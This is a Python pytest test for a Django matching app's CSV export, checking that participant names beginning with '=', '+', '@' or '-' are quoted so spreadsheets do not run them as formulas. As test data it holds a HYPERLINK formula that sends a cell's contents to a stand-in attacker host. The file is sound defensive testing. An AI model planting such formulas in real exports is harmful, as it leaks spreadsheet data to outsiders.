"""The coordinator's CSV export of a matching run must not let a participant's typed name
run as a spreadsheet formula when the file is opened."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from tests.matching.test_workflow import start_run

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open")'


@pytest.fixture
def formula_names(programme, actor, other_actor, mentor, other_mentor):
    for person, name in ((actor, FORMULA), (mentor, "+1+1"), (other_mentor, "@SUM(1,1)")):
        person.full_name = name
        person.save(update_fields=["full_name"])
    return programme


def test_names_that_look_like_formulas_are_quoted_in_the_csv_export(
    as_user, coordinator, formula_names, django_capture_on_commit_callbacks
):
    client = as_user(coordinator)
    run = start_run(client, formula_names, django_capture_on_commit_callbacks)
    url = reverse("matching:export", args=[formula_names.slug, run.pk])
    body = client.get(url).content.decode()
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert "'" + FORMULA in cells
    rows = list(csv.reader(io.StringIO(body)))[1:]
    names = [cell for row in rows for cell in (row[0], row[2]) if cell]
    assert names and not any(cell[:1] in ("=", "+", "@", "-") for cell in names), names
